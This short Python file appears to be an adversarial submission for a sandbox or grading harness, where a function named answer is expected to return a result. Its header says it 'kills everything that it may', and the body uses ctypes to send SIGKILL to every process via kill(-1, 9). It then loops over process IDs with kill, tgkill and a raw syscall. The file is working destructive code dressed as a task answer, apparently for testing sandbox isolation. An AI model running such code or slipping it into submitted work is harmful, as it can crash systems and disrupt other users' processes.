# Tries: kills everything that it may.
# Attacks: processes
# Ends: finished
import ctypes
import os


def answer(n, user):
    libc = ctypes.CDLL(None)
    libc.kill(-1, 9)
    for pid in range(2, 200):
        libc.kill(pid, 9)
        libc.tgkill(pid, pid, 9)
        libc.syscall(434, pid, 0)
    return 0
